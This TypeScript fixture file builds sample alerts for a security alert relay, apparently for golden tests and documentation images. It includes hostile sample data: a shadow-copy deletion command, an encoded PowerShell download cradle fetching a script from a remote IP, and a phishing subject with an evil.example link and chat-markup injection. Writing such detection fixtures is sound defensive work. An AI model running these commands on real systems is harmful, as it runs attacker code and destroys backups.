/** Messages as the relay makes them of believable rows: for golden files, and for the pictures of docs/alerts.md. */
import type { AlertMessage, EntityList, Message } from '../../src/alerts/message.ts';
import { messageOfOne } from '../../src/destinations/alert-view/single.ts';
import { messageOnBegin, messageOnEnd } from '../../src/relay/operational/words.ts';
import type { Envelope } from '../../src/shared/event.ts';

const TENANT = '11111111-2222-3333-4444-555555555555';

/** `links:` of relay.yaml. */
export const SAMPLE_LINKS = {
  Splunk:
    'https://splunk.contoso.example/en-US/app/search/search?q=search%20index%3Ddefender%20rule_id%3D{rule_id}%20host%3D{host}&earliest={from_epoch}&latest={to_epoch}',
} as const;

function envelopeOf(table: string, over: Partial<Envelope> & Pick<Envelope, 'event'>): Envelope {
  return {
    id: 'bca83535558a6a4b8f58d67371041266',
    time: '2026-11-25T21:21:45.1120042Z',
    received: '2026-11-25T21:23:10.0000000Z',
    tenant: TENANT,
    table,
    alertId: '5f0c2a9d7e314b68a1c2d3e4f5061728',
    source: {
      blob: `insights-logs-advancedhunting-${table.toLowerCase()}/tenantId=${TENANT}/y=2026/m=11/d=25/h=21/m=00/PT1H.json`,
      offset: 985_615,
    },
    ...over,
  };
}

const shadowCopies = envelopeOf('DeviceProcessEvents', {
  severity: 'critical',
  rule: {
    title: 'Shadow Copies or Backups Deleted',
    id: '1bb8fb3b-9e36-4467-91a9-defbefacf239',
    description:
      'Deletion of shadow copies or of the backup catalog, which ransomware does before it encrypts files.',
    tags: ['attack.impact', 'attack.t1490'],
    falsepositives: ['Backup software that renews its own copies'],
    matched: [
      { column: 'FileName', value: 'vssadmin.exe' },
      { column: 'ProcessCommandLine', value: 'vssadmin delete shadows /all /quiet' },
    ],
  },
  event: {
    Timestamp: '2026-11-25T21:21:45.1120042Z',
    DeviceId: 'c6a833d8a0da6ad439076368d1681e7930c49fef',
    DeviceName: 'pc-27.contoso.com',
    ActionType: 'ProcessCreated',
    AccountName: 'u5',
    AccountUpn: 'u5@contoso.com',
    AccountObjectId: '0a1b2c3d-0000-4000-8000-0123456789ab',
    FileName: 'vssadmin.exe',
    FolderPath: 'C:\\Windows\\System32\\vssadmin.exe',
    ProcessCommandLine: 'vssadmin delete shadows /all /quiet',
    InitiatingProcessFileName: 'cmd.exe',
    ReportId: 77,
  },
});

const SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";
const powershell = envelopeOf('DeviceProcessEvents', {
  alertId: '2b7e151628aed2a6abf7158809cf4f3c',
  severity: 'high',
  rule: {
    title: 'PowerShell Started with an Encoded Command',
    id: 'fb843269-508c-4b76-8b8d-88679db22ce7',
    tags: ['attack.execution', 'attack.t1059.001'],
    matched: [{ column: 'FileName', value: 'powershell.exe' }],
  },
  event: {
    DeviceId: 'd3adb33fd3adb33fd3adb33fd3adb33fd3adb33f',
    DeviceName: 'ws-042.contoso.com',
    AccountUpn: 'alice@contoso.com',
    ActionType: 'ProcessCreated',
    FileName: 'powershell.exe',
    InitiatingProcessFileName: 'winword.exe',
    ProcessCommandLine: `powershell.exe -NoP -W Hidden -Enc ${btoa([...SCRIPT].map((char) => `${char}\0`).join(''))}`,
    ReportId: 12,
  },
});

const mail = envelopeOf('EmailEvents', {
  alertId: '603deb1015ca71be2b73aef0857d7781',
  severity: 'medium',
  rule: {
    title: 'Mail from a Look-alike Domain',
    id: '0f5cbf1c-5a1f-4c50-8a0d-1c2fb8c1f3aa',
    tags: ['attack.initial-access', 'attack.t1566.002'],
  },
  event: {
    NetworkMessageId: '7c0b3a52-1a0d-4f6c-9b3e-08dc4f2f1a11',
    SenderFromAddress: 'billing@c0ntoso.example',
    RecipientEmailAddress: 'bob@contoso.com',
    Subject: 'Your invoice <https://evil.example|open> @channel *now*',
    ActionType: 'Delivered',
    ReportId: '7c0b3a52-1a0d-4f6c-9b3e-08dc4f2f1a11-1-1',
  },
});

const defenderRow = envelopeOf('AlertInfo', {
  id: 'd5c7ffb87e090b9ede3541663bfe1bb2',
  time: '2026-11-25T21:19:34.0000000Z',
  alertId: '91d2a4f0c6b84e57a3d1e2f304152637',
  severity: 'high',
  rule: {
    title: 'Defender Raised a High Alert',
    id: 'e5b46d85-2f36-41e9-953b-a694fecd2437',
    description:
      "Defender's own alert of high severity, so that it reaches people where all other alerts do.",
    matched: [{ column: 'Severity', value: 'High' }],
  },
  event: {
    AlertId: 'da638429114920561_-1',
    Title: 'Ransomware activity detected',
    Category: 'Ransomware',
    Severity: 'High',
    ServiceSource: 'Microsoft Defender for Endpoint',
    DetectionSource: 'EDR',
    AttackTechniques: '["Data Encrypted for Impact (T1486)"]',
  },
});

function hosts(from: number, to: number, more: number): EntityList {
  const first = Array.from({ length: to - from }, (_, at) => ({
    kind: 'host' as const,
    name: `pc-${from + at}.contoso.com`,
    id: `dev${from + at}`,
  }));
  return { kind: 'host', first, more };
}

const users: EntityList = {
  kind: 'user',
  first: ['u5', 'u6', 'u7'].map((name) => ({ kind: 'user', name: `${name}@contoso.com` })),
  more: 6,
};

const single: AlertMessage = messageOfOne(shadowCopies);

const defender: AlertMessage = {
  ...messageOfOne(defenderRow),
  lastTime: '2026-11-25T21:20:02.0000000Z',
  entities: [
    {
      kind: 'host',
      first: [
        { kind: 'host', name: 'fs-01.contoso.com', id: 'a1b2c3d4e5f60718293a4b5c6d7e8f9001122334' },
        { kind: 'host', name: 'pc-27.contoso.com', id: 'c6a833d8a0da6ad439076368d1681e7930c49fef' },
      ],
      more: 1,
    },
    { kind: 'user', first: [{ kind: 'user', name: 'CONTOSO\\svc-backup' }], more: 0 },
    {
      kind: 'file',
      first: [{ kind: 'file', name: 'C:\\Users\\Public\\lock.exe', id: 'a'.repeat(40) }],
      more: 2,
    },
  ],
  defender: {
    alertId: 'da638429114920561_-1',
    title: 'Ransomware activity detected',
    category: 'Ransomware',
    severity: 'High',
    serviceSource: 'Microsoft Defender for Endpoint',
    detectionSource: 'EDR',
    techniques: ['Data Encrypted for Impact (T1486)'],
    evidence: 7,
  },
};

const burst: AlertMessage = {
  ...single,
  groupId: '0c4fa1b2d3e4f5061728394a5b6c7d8e',
  phase: 'update',
  count: 47,
  lastTime: '2026-11-25T21:29:10.0000000Z',
  groupedBy: [{ column: 'DeviceName', value: 'pc-27.contoso.com' }],
  tables: ['DeviceProcessEvents'],
  common: [
    { column: 'ActionType', values: ['ProcessCreated'] },
    { column: 'DeviceName', values: ['pc-27.contoso.com'] },
    { column: 'FileName', values: ['vssadmin.exe', 'wmic.exe'] },
  ],
  entities: [
    {
      kind: 'host',
      first: [{ kind: 'host', name: 'pc-27.contoso.com', id: 'c6a833d8a0da6ad439076368d1681e7930c49fef' }],
      more: 0,
    },
    users,
  ],
  added: [{ kind: 'user', first: [{ kind: 'user', name: 'u7@contoso.com' }], more: 6 }],
  others: [
    { rule: { title: 'Suspicious Child of cmd.exe', id: 'c1' }, severity: 'medium' },
    { rule: { title: 'Rare Process on a Host' }, severity: 'low' },
  ],
};

const wholeRule: AlertMessage = {
  ...single,
  groupId: '7d1e2f3a4b5c6d7e8f90a1b2c3d4e5f6',
  scope: 'rule',
  count: 1_960,
  lastTime: '2026-11-25T21:24:00.0000000Z',
  groupedBy: [],
  tables: ['DeviceProcessEvents'],
  // The hosts and the command lines are too many.
  common: [
    { column: 'ActionType', values: ['ProcessCreated'] },
    { column: 'FileName', values: ['vssadmin.exe', 'wmic.exe'] },
  ],
  entities: [hosts(3, 13, 37), users],
};

/** In the words that the relay has for it, so that the pictures show what people read. */
const outage = {
  id: 'd'.repeat(32),
  kind: 'destination' as const,
  subjects: ['splunk'],
  since: Date.parse('2026-11-25T21:10:00.000Z'),
};
const runbooks = 'https://wiki.contoso.com/xdr-relay/';
const failing = messageOnBegin(
  outage,
  [
    [
      'splunk',
      {
        since: outage.since,
        detail: 'hec_4: Splunk answered 403: {"text":"Invalid token","code":4}',
        waitsIn: 'blobs',
      },
    ],
  ],
  runbooks,
);
const recovered = messageOnEnd(outage, Date.parse('2026-11-25T21:31:00.000Z'), runbooks);

/** By name: of which messages one rendered message stands for, and how it is said. */
export const SAMPLES: Readonly<
  Record<string, { readonly how: 'say' | 'thread' | 'digest'; readonly messages: readonly Message[] }>
> = {
  single: { how: 'say', messages: [single] },
  powershell: { how: 'say', messages: [messageOfOne(powershell)] },
  mail: { how: 'say', messages: [messageOfOne(mail)] },
  defender: { how: 'say', messages: [defender] },
  burst: { how: 'say', messages: [burst] },
  'burst-thread': { how: 'thread', messages: [burst] },
  'whole-rule': { how: 'say', messages: [wholeRule] },
  digest: { how: 'digest', messages: [wholeRule, defender, messageOfOne(powershell), messageOfOne(mail)] },
  operational: { how: 'say', messages: [failing] },
  'operational-over': { how: 'say', messages: [recovered] },
};
